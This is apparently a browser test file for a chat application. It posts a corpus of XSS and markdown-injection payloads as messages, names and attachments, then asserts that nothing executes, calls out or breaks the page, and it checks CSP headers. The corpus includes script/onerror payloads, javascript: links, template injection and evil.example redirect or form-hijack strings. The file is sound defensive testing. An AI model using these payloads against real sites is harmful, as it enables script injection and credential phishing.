/** Words that would be code elsewhere: as names, messages, rooms and links, they stay words. */
import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test'
import type { Browser } from 'playwright-core'
import { launch } from './support/browser.ts'
import { behindTheScenes, expectCalm, type Person, signIn, sitDown } from './support/person.ts'
import { type Server, startServer } from './support/server.ts'
import { says } from './support/tea-party.ts'

const CORPUS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg/onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '"><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  "<a href='javascript:window.pwned=1'>click</a>",
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](java\u0009script:window.pwned=1)',
  '[click](&#106;avascript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[click](vbscript:msgbox(1))',
  '![x](javascript:window.pwned=1)',
  '![x](https://evil.example/pixel.png)',
  '<javascript:window.pwned=1>',
  '[x]: javascript:window.pwned=1\n\n[x]',
  '**<b onmouseover=window.pwned=1>bold</b>**',
  '`<script>window.pwned=1</script>`',
  '```html\n<script>window.pwned=1</script>\n```',
  '> <details open ontoggle=window.pwned=1>',
  '- <math><mtext></p><style><img src onerror=window.pwned=1>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password></form>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '__proto__ constructor toString',
  '\u202Eevil\u202C right to left override',
  'zalgo t̷̢̛͈̫o̶̱͐ ṵ̴̈́p̸̙̾',
  `${'['.repeat(2_000)}deep`,
  `${'> '.repeat(1_500)}deeper`,
  `${'*a _b '.repeat(1_500)}`,
  `word${'o'.repeat(3_000)}`,
  'https://example.org/?q="><script>window.pwned=1</script>',
  '@ann<img src=x onerror=window.pwned=1>',
]
/** What may stand in one line: the server refuses the others there. */
const LINES = CORPUS.filter((text) => !/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u.test(text))
/** What may be the name of something. */
const NAMES = LINES.filter((text) => text.length <= 64 && !text.includes('JaVa')).slice(0, 12)

setDefaultTimeout(240_000)

let server: Server
let browser: Browser
let ann: Person
beforeAll(async () => {
  ;[server, browser] = await Promise.all([startServer({ LIMIT_MESSAGES_PER_SECOND: '0' }), launch()])
})
afterAll(async () => {
  await browser?.close()
  await server?.stop()
})

test('nothing that anybody can write or be called becomes code, a request elsewhere, or a broken page', async () => {
  const mallory = await behindTheScenes(server.url, 'mallory')
  const reader = await behindTheScenes(server.url, 'ann')
  const rooms: string[] = []
  for (const name of NAMES) {
    const { id } = await mallory.api.create_room({ name, description: name })
    await reader.api.join_room({ room_id: id })
    rooms.push(id)
  }
  const [stage = ''] = rooms
  for (const [i, text] of CORPUS.entries()) {
    const name = NAMES[i % NAMES.length] ?? ''
    await mallory.api.update_me({ display_name: name, status_text: LINES[i % LINES.length]?.slice(0, 200) ?? '' })
    const id = await says(mallory, stage, text)
    if (i % 5 === 0) await says(mallory, stage, 'an answer', id)
    if (i % 7 === 0) await mallory.api.pin_message({ message_id: id })
  }
  await mallory.api.send_message({
    room_id: stage,
    content: 'a file',
    client_id: crypto.randomUUID(),
    message_type: 'file',
    attachments: [{ url: 'https://evil.example/"onclick="window.pwned=1', name: '<script>window.pwned=1</script>' }],
  })
  reader.stop()

  ann = await sitDown(browser, server.url, 'ann')
  const asked: string[] = []
  ann.page.on('request', (request) => asked.push(request.url()))
  const dialogs: string[] = []
  ann.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await signIn(ann)
  await ann.page.locator(`[data-room="${stage}"]`).click()
  await ann.page.locator('.message').first().waitFor()
  await ann.page.getByRole('button', { name: 'Members' }).click()
  await ann.page.locator('.member').first().waitFor()
  // every row is drawn once: the room opens at its first unread message, the beginning
  const seen = new Set<string>()
  for (let i = 0; i < 60; i++) {
    for (const key of await ann.page.locator('.message').evaluateAll((rows) => rows.map((row) => row.getAttribute('data-seq') ?? '')))
      seen.add(key)
    await ann.page.locator('.scroll').evaluate((box) => box.scrollBy(0, box.clientHeight * 0.8))
    await ann.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))
    if (i > 5 && !(await ann.page.locator('.to-end').isVisible())) break
  }
  expect(seen.size).toBeGreaterThan(CORPUS.length)
  await ann.page.getByRole('button', { name: 'Pinned messages' }).click()
  await ann.page.locator('.found').first().waitFor()
  await ann.page.goto('/directory')
  await ann.page.locator('.directory-room').first().waitFor()

  expect(await ann.page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined()
  expect(dialogs).toEqual([])
  expect(asked.filter((url) => !url.startsWith(server.url) && !url.startsWith('data:'))).toEqual([])
  expectCalm(ann) // a refused policy would be an error on the console
  mallory.stop()
})

test('links lead to the web or to mail, and to nothing else', async () => {
  await ann.page.locator('.room-row').last().click()
  await ann.page.locator('.conversation').waitFor()
  const hrefs = await ann.page.locator('.text a').evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol))
  expect(hrefs.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
})

test('the page and its files carry a policy without exceptions', async () => {
  const page = await fetch(server.url)
  const policy = page.headers.get('content-security-policy') ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).not.toContain('unsafe')
  expect(await page.text()).not.toMatch(/<script(?![^>]*src=)|<style|\sstyle=|\son\w+=/)
  const script = /src="([^"]+\.js)"/.exec(await (await fetch(server.url)).text())?.[1] ?? ''
  const asset = await fetch(server.url + script, { headers: { 'accept-encoding': 'br' } })
  expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
  expect(asset.headers.get('content-encoding')).toBe('br')
  expect(asset.headers.get('x-content-type-options')).toBe('nosniff')
  const again = await fetch(server.url, { headers: { 'if-none-match': page.headers.get('etag') ?? '' } })
  expect(again.status).toBe(304)
  const picture = await fetch(`${server.url}/icon-192.png`, { headers: { 'accept-encoding': 'br, gzip' } })
  expect(picture.headers.get('content-encoding')).toBeNull()
  expect(new Uint8Array(await picture.arrayBuffer()).slice(1, 4)).toEqual(new TextEncoder().encode('PNG'))
  expect((await fetch(`${server.url}/assets/nothing.js`)).status).toBe(404)
  expect(await (await fetch(`${server.url}/invite/some-code`)).text()).toContain('<noscript>')
})
